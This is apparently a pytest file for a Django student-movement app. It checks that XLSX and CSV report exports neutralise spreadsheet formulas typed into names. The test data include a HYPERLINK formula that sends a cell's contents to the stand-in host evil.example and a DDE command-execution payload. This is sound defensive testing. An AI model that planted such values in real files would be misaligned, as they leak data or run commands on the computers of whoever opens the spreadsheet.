"""«Отчёт о присоединении» downloads: names people typed never become live formulas."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from movement import services
from movement.models import RosterRow

pytestmark = pytest.mark.django_db
TODAY = datetime.date.today()
HYPERLINK = '=HYPERLINK("http://evil.example/?p="&D3,"Открыть")'
ROSTER_NAMES = ["=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)"]


@pytest.fixture
def hostile_student(college, groups, make_student):
    student = make_student(groups[0])
    student.user.__class__.objects.filter(pk=student.user_id).update(last_name=HYPERLINK, last_login=None)
    student.user.refresh_from_db()
    return student


def _xlsx_names(content: bytes) -> dict:
    sheet = load_workbook(io.BytesIO(content)).active
    return {row[2].value: row[2] for row in sheet.iter_rows(min_row=2)}


def test_joined_report_xlsx_gives_a_typed_hyperlink_formula_as_text(admin, hostile_student, client_for):
    response = client_for(admin).get("/movement/reports/joined/?format=xlsx")

    cells = _xlsx_names(response.content)
    cell = cells[hostile_student.user.full_name]
    assert cell.value.startswith(HYPERLINK)
    assert cell.data_type == "s"
    assert response["Content-Disposition"].startswith("attachment;")


def test_joined_report_csv_neutralises_a_typed_hyperlink_formula(admin, hostile_student, client_for):
    response = client_for(admin).get("/movement/reports/joined/?format=csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = [row[2] for row in rows[1:]]
    assert "'" + hostile_student.user.full_name in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_roster_names_are_kept_as_typed_and_exported_as_text(
    admin, college, groups, client_for, django_capture_on_commit_callbacks
):
    lines = [f"{name};Иван;;+7 912 000 10 0{i};ИС-20;" for i, name in enumerate(ROSTER_NAMES)]
    text = "\n".join(["Фамилия;Имя;Отчество;Телефон;Группа;Дата рождения", *lines]) + "\n"
    batch = services.import_upload(
        actor=admin,
        college=college,
        name="kontingent.csv",
        data=text.encode("utf-8"),
        order_number="77-к",
        order_date=TODAY,
        effective_date=TODAY,
    )
    with django_capture_on_commit_callbacks(execute=True):
        services.import_apply_start(actor=admin, batch=batch)
    client = client_for(admin)

    xlsx = _xlsx_names(client.get("/movement/reports/joined/?format=xlsx").content)
    csv_text = client.get("/movement/reports/joined/?format=csv").content.decode("utf-8-sig")

    for name in ROSTER_NAMES:
        full_name = f"{name} Иван"
        assert xlsx[full_name].data_type == "s"
        assert f"'{full_name}" in csv_text
    assert sorted(RosterRow.objects.filter(batch=batch).values_list("last_name", flat=True)) == sorted(ROSTER_NAMES)
